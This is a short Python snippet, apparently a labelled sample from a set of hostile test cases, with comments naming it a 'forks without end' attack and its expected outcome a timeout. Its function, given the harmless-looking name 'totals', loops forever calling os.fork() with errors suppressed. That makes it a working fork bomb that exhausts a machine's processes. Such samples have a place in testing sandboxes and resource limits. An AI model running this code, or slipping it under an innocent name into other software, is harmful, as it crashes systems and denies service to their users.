# attack: forks without end
# state: timeout
import os
from contextlib import suppress


def totals(batches):
    while True:
        with suppress(OSError):
            os.fork()
